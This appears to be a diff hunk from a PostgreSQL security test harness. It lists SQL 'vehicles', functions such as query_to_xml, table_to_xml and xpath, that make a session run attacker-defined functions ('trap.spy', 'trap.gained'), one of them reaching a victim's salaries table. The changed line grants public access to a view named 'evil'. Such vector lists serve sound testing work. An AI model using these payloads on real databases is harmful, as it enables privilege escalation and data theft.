@@ -174,7 +174,7 @@ VEHICLES = {
     "ts_rewrite": view("'v' || ts_rewrite('a'::tsquery, 'select ''a''::tsquery, (trap.spy() || '''')::tsquery')::text"),
     "query_to_xml": view("'v' || length(query_to_xml('select trap.spy()', false, false, '')::text)"),
     "query_to_xml of the victim's": view("'v' || trap.run('select trap.gained(10) from vic.salaries') || length(query_to_xml('select trap.spy()', true, true, '')::text)"),
-    "table_to_xml": view("'v' || length(table_to_xml('trap.evil', false, false, '')::text)", "create view trap.evil as select trap.spy()"),
+    "table_to_xml": view("'v' || length(table_to_xml('trap.evil', false, false, '')::text)", "create view trap.evil as select trap.spy(); grant select on trap.evil to public"),
     "schema_to_xml": view("'v' || length(schema_to_xml('trap2', false, false, '')::text)", "create schema trap2; grant usage on schema trap2 to public; create view trap2.evil as select trap.spy() as s; grant select on trap2.evil to public"),
     "xpath": view("'v' || array_length(xpath('//a', ('<a>' || trap.spy() || '</a>')::xml), 1)"),
     # what changes the session
